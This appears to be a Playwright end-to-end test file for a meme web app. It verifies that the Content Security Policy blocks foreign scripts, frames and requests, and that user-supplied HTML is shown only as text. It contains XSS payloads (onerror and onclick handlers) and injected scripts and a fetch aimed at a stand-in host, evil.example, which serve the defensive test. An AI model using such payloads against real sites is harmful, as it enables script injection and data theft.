/**
 * The page under its own policy, in a real browser on the real server: nothing of ours is refused, everything of a
 * stranger is. And every text a stranger can write stays text where it is shown. Design 8; rules C1, R2.
 */
import assert from "node:assert/strict";
import { publicKeyOf } from "@meme-rounds/shared-schema/crypto";
import { snapshotSchema } from "@meme-rounds/shared-schema/rest";
import type { Page } from "playwright-core";
import sharp from "sharp";
import { z } from "zod";
import { Player } from "../../../loadtest/src/player.ts";
import { type Cluster, startCluster } from "../game/cluster.ts";
import { until } from "../support/wait.ts";
import { type Browser, keepPicture, startBrowser } from "./page.ts";

const DESK = { width: 1440, height: 900 };
const ADMIN = new Uint8Array(32).fill(7);
/** As an element it would have an id, and run. */
const HOSTILE = `<img id=owned src=x onerror="document.title='owned'">`;
const NAME = "<b id=owned onclick=x>n</b>";

const photo = (seed: number): Promise<Buffer> =>
  sharp(
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="900" height="700"><rect width="900" height="700" fill="#5b7fa6"/>
      <circle cx="${300 + seed * 90}" cy="330" r="210" fill="#e0aa82"/><path d="M200 ${500 + seed * 20}h500v120h-500z" fill="#3b2417"/></svg>`),
  )
    .jpeg()
    .toBuffer();

describe("the page under its own policy", function () {
  this.timeout(180_000);
  let cluster: Cluster;
  let browser: Browser;
  let ann: Player;
  let admin: Player;
  before(async () => {
    cluster = await startCluster({ roundSeconds: 120, admins: [`ecdsa-secp256k1:${publicKeyOf(ADMIN)}`] });
    browser = await startBrowser(cluster.url);
    ann = new Player(cluster.url);
    await ann.signIn();
    admin = new Player(cluster.url, ADMIN);
    await admin.signIn();
  });
  afterEach(() => browser.everybodyLeaves());
  after(async () => {
    await ann?.leave();
    await browser?.close();
    await cluster?.stop();
  });

  const current = async () =>
    snapshotSchema.parse(await (await fetch(`${cluster.url}/api/rounds/current`)).json());
  /** Elements made of a stranger's text, and whether it ran. */
  const owned = async (page: Page): Promise<unknown> =>
    await page.evaluate("[document.querySelectorAll('#owned').length, document.title === 'owned']");
  const policyOf = async (path: string): Promise<Map<string, string[]>> => {
    const { headers } = await fetch(`${cluster.url}${path}`);
    const parts = (headers.get("content-security-policy") ?? "").split(";").filter((part) => part !== "");
    return new Map(parts.map((part) => [part.trim().split(" ")[0] ?? "", part.trim().split(" ").slice(1)]));
  };

  it("CSP: nothing inline, nothing evaluated, nobody else's, no frames; the same on every page", async () => {
    for (const path of ["/", "/gallery", "/rounds/main-1/verify", `/m/main-1/${"ab".repeat(32)}`]) {
      const policy = await policyOf(path);
      assert.deepEqual(policy.get("default-src"), ["'none'"], path);
      assert.deepEqual(policy.get("script-src"), ["'self'", "'wasm-unsafe-eval'"]);
      for (const none of ["object-src", "base-uri", "frame-ancestors", "frame-src", "script-src-attr"])
        assert.deepEqual(policy.get(none), ["'none'"], `${path} ${none}`);
      const connect = policy.get("connect-src") ?? [];
      assert.deepEqual(connect, ["'self'", "blob:", new URL(cluster.devchain.url).origin]);
      const all = [...policy.values()].flat();
      assert.ok(!all.some((one) => /unsafe-inline|'unsafe-eval'|^\*|^https?:$/.test(one)), all.join(" "));
    }
  });

  it("CSP: the whole page works: play, wallet, editor, preview, gallery, verify, terms, docs", async () => {
    const { page, errors, context } = await browser.person(DESK);
    await page.addInitScript(
      "addEventListener('securitypolicyviolation', (e) => console.error('Content Security Policy: ' + e.violatedDirective + ' ' + e.blockedURI))",
    );
    await page.reload();
    await page.getByTestId("wallet-open").click();
    await page.getByTestId("wallet-create").click();
    await page.getByTestId("faucet").waitFor();
    await page.keyboard.press("Escape");
    await page.getByTestId("enter-open").first().click();
    const picture = { name: "IMG.jpg", mimeType: "image/jpeg", buffer: await photo(5) };
    await page.getByTestId("enter-file").setInputFiles(picture);
    await page.getByTestId("enter-edit").click();
    await page.getByTestId("editor-top").fill("such policy");
    await page.getByTestId("editor-done").click();
    await page.getByTestId("enter-title").fill("Policy");
    await page.getByTestId("enter-upload").click();
    await page.locator('[data-testid="enter-verdict"][data-status="approved"]').waitFor();
    await page
      .getByTestId("shape-preview")
      .waitFor({ timeout: 80_000 })
      .catch((cause: unknown) => {
        throw new Error(`no preview; ${errors.join("\n")}`, { cause });
      });
    await page.getByTestId("shape-open").click();
    await page.getByTestId("viewer").waitFor();
    await page.locator("model-viewer").waitFor({ timeout: 30_000 });
    await keepPicture(page, "csp-viewer");
    for (const path of ["/gallery", "/rounds", "/terms", "/privacy", "/rounds/main-1/verify", "/api/docs"]) {
      await page.goto(`${cluster.url}${path}`);
      await page.waitForLoadState("networkidle");
    }
    // The docs page has its style.
    assert.equal(await page.evaluate("getComputedStyle(document.body).backgroundColor"), "rgb(13, 15, 14)");
    assert.deepEqual(errors, []);
    await context.close();
  });

  it("CSP: a script, a handler, a frame, a style, a request of a stranger's go nowhere", async () => {
    const { page, context } = await browser.person(DESK);
    const said: string[] = [];
    page.on("console", (line) => said.push(line.text()));
    await page.evaluate(`(() => {
      globalThis.seen = [];
      addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
      const put = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
      const attempt = (act) => { try { act(); } catch (error) { seen.push(error.name); } };
      attempt(() => put("script", { textContent: "globalThis.ran = 1" }));
      attempt(() => put("script", { src: "https://evil.example/x.js" }));
      put("iframe", { src: "https://evil.example/" });
      put("style", { textContent: "body{display:none}" });
      put("img", { src: "https://evil.example/pixel" });
      attempt(() => put("object", { data: "https://evil.example/x.swf" }));
      const button = document.createElement("div");
      attempt(() => { button.innerHTML = "<p onclick='globalThis.ran = 2'>x</p>"; });
      attempt(() => button.setAttribute("onclick", "globalThis.ran = 2"));
      attempt(() => trustedTypes.createPolicy("mine", {}));
      document.body.append(button);
      button.click();
      put("base", { href: "https://evil.example/" });
      fetch("https://evil.example/steal").catch(() => undefined);
      // Later: what the test's own tool evaluates may evaluate.
      setTimeout(() => attempt(() => new Function("globalThis.ran = 3")()), 0);
      attempt(() => new WebSocket("wss://evil.example/"));
    })()`);
    const expected = [
      "base-uri",
      "connect-src",
      "frame-src",
      "img-src",
      "require-trusted-types-for",
      "style-src-elem",
      "trusted-types",
      "EvalError",
    ];
    await until(
      async () => {
        const seen = (await page.evaluate("seen")) as string[];
        return expected.every((one) => seen.includes(one));
      },
      { what: `all of ${expected.join(", ")}` },
    ).catch(async (error) => {
      throw new Error(`only ${await page.evaluate("seen.join()")}`, { cause: error });
    });
    assert.equal(await page.evaluate("globalThis.ran"), undefined);
    await context.close();
  });

  it("HTML in a name, a title and a chat line is shown as it was written", async () => {
    await admin.call(z.unknown(), "PATCH", "/me", { name: "Somebody" });
    await ann.call(z.unknown(), "PATCH", "/me", { name: NAME });
    const content = await ann.upload(await photo(1), HOSTILE);
    assert.equal(content.status, "approved", JSON.stringify(content));
    const coin = await ann.faucet(100_000);
    await until(async () => (await current()).depositsCloseAt - Date.now() > 20_000, {
      deadlineMs: 130_000,
      what: "a fresh round",
    });
    const round = await current();
    await ann.join(round.roomId);
    assert.ok((await ann.deposit(round, coin, 50_000)).ok);
    const entered = await ann.enter(round, content, round.entryPrice);
    assert.ok(entered.ok, JSON.stringify(entered));
    const line = await ann.chat(round, HOSTILE);
    assert.ok(line.ok, JSON.stringify(line));

    const { page, errors, context } = await browser.person(DESK);
    await page.getByText(HOSTILE).first().waitFor();
    await until(async () => (await page.getByText(HOSTILE).count()) >= 2, { what: "title and chat line" });
    assert.deepEqual(await owned(page), [0, false]);
    await keepPicture(page, "csp-hostile-texts");
    assert.deepEqual(errors, []);
    await context.close();
  });

  it("HTML in what the API says back, its details and its docs: no answer is a document with a stranger's element", async () => {
    const { page, context } = await browser.person(DESK);
    const evil = encodeURIComponent(HOSTILE);
    const paths = [
      `/api/rounds/${evil}`,
      `/api/nothing/${evil}`,
      `/api/leaderboard?window=${evil}`,
      `/api/rounds/current?arena=${evil}`,
      `/media/${evil}`,
      `/m/${evil}/${evil}`,
      `/rounds/${evil}/verify`,
      `/matchmake/joinById/${evil}`,
      `/api/docs?${evil}`,
      "/api/errors",
      "/api/openapi.json",
      `/.well-known/${evil}`,
      `/assets/${evil}`,
    ];
    for (const path of paths) {
      await page.goto(`${cluster.url}${path}`);
      await page.waitForLoadState("networkidle");
      assert.deepEqual(await owned(page), [0, false], path);
    }
    await context.close();
  });

  it("HTML in a report, an appeal, a moderator's and an admin's words comes back as JSON, and is no document", async () => {
    const round = await current();
    const meme = round.memes.find(({ title }) => title === HOSTILE);
    if (ann.room && meme) await ann.send("report", { memeId: meme.memeId, reason: HOSTILE });
    const rejected = await ann.upload(await photo(3), "kill yourself");
    assert.equal(rejected.status, "rejected");
    await ann.call(z.unknown(), "POST", `/content/${rejected.contentId}/appeal`, { text: HOSTILE });
    for (const [path, token] of [
      ["/api/admin/queue", admin.token],
      ["/api/me/export", ann.token],
      ["/api/me", ann.token],
    ] as const) {
      const answer = await fetch(`${cluster.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
      assert.equal(answer.status, 200, path);
      const text = await answer.text();
      assert.ok(text.includes("id=owned"), `${path} has the text`);
      assert.match(answer.headers.get("content-type") ?? "", /^application\/json/, path);
      assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
      assert.match(answer.headers.get("content-security-policy") ?? "", /^default-src 'none'/);
    }
    const takedown = await fetch(`${cluster.url}/api/admin/memes/${meme?.memeId}/takedown`, {
      method: "POST",
      headers: { authorization: `Bearer ${admin.token}`, "content-type": "application/json" },
      body: JSON.stringify({ reason: HOSTILE }),
    });
    assert.equal(takedown.status, 200, await takedown.text());
    const { page, context } = await browser.person(DESK);
    await page
      .getByText(/taken down/i)
      .first()
      .waitFor();
    await keepPicture(page, "csp-taken-down");
    assert.deepEqual(await owned(page), [0, false]);
    await context.close();
  });
});
